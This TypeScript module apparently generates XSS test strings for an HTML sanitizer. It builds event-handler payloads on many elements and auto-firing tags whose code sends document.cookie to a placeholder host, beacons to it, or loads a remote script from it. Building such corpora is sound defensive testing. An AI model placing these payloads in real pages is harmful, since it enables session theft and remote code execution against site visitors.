import { AWAY, cross, HIT, words, type Family } from './attack-marks.ts';

// Attributes that are code: every event there is, on every element there is.

const events = words(`
  load error abort focus blur focusin focusout click dblclick auxclick contextmenu mousedown mouseup mouseover mouseout
  mousemove mouseenter mouseleave wheel mousewheel pointerdown pointerup pointermove pointerover pointerout pointerenter
  pointerleave pointercancel pointerrawupdate gotpointercapture lostpointercapture touchstart touchend touchmove
  touchcancel drag dragstart dragend dragenter dragleave dragover drop keydown keyup keypress input beforeinput change
  invalid reset select selectstart selectionchange submit formdata copy cut paste beforecopy beforecut beforepaste
  search scroll scrollend resize toggle beforetoggle cancel close command animationstart animationend
  animationiteration animationcancel transitionrun transitionstart transitionend transitioncancel webkitanimationstart
  webkitanimationend webkittransitionend beforematch contentvisibilityautostatechange fullscreenchange fullscreenerror
  play playing pause canplay canplaythrough loadeddata loadedmetadata loadstart progress suspend stalled waiting ended
  durationchange timeupdate ratechange seeking seeked volumechange cuechange slotchange securitypolicyviolation message
  hashchange popstate`);

const elements = words(`
  p h1 h6 blockquote pre hr ul ol li strong em del code a img br b i s strike u span div font center marquee blink
  section article header footer main nav aside address form input button textarea keygen isindex label fieldset legend
  output meter progress details summary dialog menu menuitem video audio source track picture canvas iframe object embed
  applet map area ruby rt rp bdo bdi slot custom-tag x:y svg math image body html xss dir acronym big tt listing xmp
  plaintext nobr`);

/** Parts of a table, which need a table around them: otherwise the parser drops their tags. */
const inTables = words('table caption colgroup col thead tbody tr th td');

/** Tags whose code runs without anybody doing anything. */
const triggers = [
  'img src=x onerror',
  'svg onload',
  'input autofocus onfocus',
  'details open ontoggle',
  'body onload',
];

const senders = [
  `new Image().src='${AWAY}/'+document.cookie`,
  `fetch('${AWAY}/')`,
  `navigator.sendBeacon('${AWAY}/')`,
  `document.body.append(Object.assign(document.createElement('script'),{src:'${AWAY}/x.js'}))`,
];

export const handlerFamilies: readonly Family[] = [
  { name: 'every event, on a paragraph', strings: events.map((on) => `<p on${on}=${HIT}>x</p>`) },
  {
    name: 'every event, on a picture and a link',
    strings: cross(['img src=x', 'a href=#'], events, (tag, on) => `<${tag} ON${on}="${HIT}">x`),
  },
  {
    name: 'every element',
    strings: [
      ...elements.map((name) => `<${name} onclick="${HIT}">x</${name}>`),
      ...inTables.map((name) => `<table><${name} onclick="${HIT}">x</${name}></table>`),
    ],
  },
  {
    name: 'handlers that send away what they find',
    strings: cross(triggers, senders, (tag, code) => `<${tag}="${code}">`),
  },
];
